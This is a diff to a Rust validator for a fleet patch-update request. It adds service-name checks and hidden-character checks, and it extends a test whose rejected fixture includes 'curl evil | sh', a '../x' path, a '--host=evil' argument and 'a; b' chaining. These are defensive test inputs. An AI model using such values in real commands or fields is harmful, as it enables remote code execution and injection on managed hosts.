@@ -2,6 +2,10 @@
 
 use std::fmt;
 
+use domain::{
+    ids::GivenService,
+    text::{has_hidden, is_hidden},
+};
 use serde::{Deserialize, Serialize};
 use utoipa::ToSchema;
 
@@ -31,7 +35,7 @@ pub struct SystemPatch {
     #[serde(skip_serializing_if = "Option::is_none")]
     pub update_command: Option<String>,
     /// Services to stop before and start after the update, if a host has them.
-    pub service_list: Vec<String>,
+    pub service_list: Vec<GivenService>,
     /// Commands to run on each host before the update.
     pub pre_update_scripts: Vec<CommandLine>,
     /// Commands to run on each host after the update.
@@ -79,8 +83,7 @@ impl SystemPatch {
             "must have 1 to 100 clusters",
         );
         for (position, cluster) in self.target_clusters.iter().enumerate() {
-            let is_odd =
-                cluster.trim().is_empty() || cluster.len() > 200 || cluster.contains(char::is_control);
+            let is_odd = cluster.trim().is_empty() || cluster.len() > 200 || has_hidden(cluster);
             check(is_odd, format!("/targetClusters/{position}"), "must be a name of 1 to 200 bytes");
         }
         check(
@@ -129,6 +132,12 @@ impl SystemPatch {
             "must be an update of all packages, such as `apt-get update && apt-get upgrade -y` or `dnf upgrade -y`: the platform \
              installs the versions of the approved plan itself; put other work into preUpdateScripts",
         );
+        check(self.service_list.len() > 100, "/serviceList".to_owned(), "must name at most 100 services");
+        for (position, service) in self.service_list.iter().enumerate() {
+            if let Err(error) = service.name() {
+                check(true, format!("/serviceList/{position}"), &error.to_string());
+            }
+        }
         for (name, scripts) in
             [("preUpdateScripts", &self.pre_update_scripts), ("postUpdateScripts", &self.post_update_scripts)]
         {
@@ -170,8 +179,7 @@ fn updates_all_packages(command: &str) -> bool {
 fn is_address(text: &str) -> bool {
     let Some((local, domain)) = text.split_once('@') else { return false };
     let is_plain = |part: &str| {
-        !part.is_empty()
-            && !part.contains(|c: char| c.is_whitespace() || c.is_control() || "<>,;@".contains(c))
+        !part.is_empty() && !part.contains(|c: char| c.is_whitespace() || is_hidden(c) || "<>,;@".contains(c))
     };
     text.len() <= 254 && is_plain(local) && is_plain(domain)
 }
@@ -229,6 +237,7 @@ mod tests {
             vault_address: Some("vault".into()),
             secret_path_prefix: Some("../x".into()),
             update_command: Some("curl evil | sh".into()),
+            service_list: serde_json::from_str(r#"["nginx", "--host=evil"]"#).unwrap(),
             post_update_scripts: vec![CommandLine::Line("a; b".into())],
             ..example()
         };
@@ -242,6 +251,7 @@ mod tests {
                 "/vaultAddress",
                 "/secretPathPrefix",
                 "/updateCommand",
+                "/serviceList/1",
                 "/postUpdateScripts/0",
             ]
         );
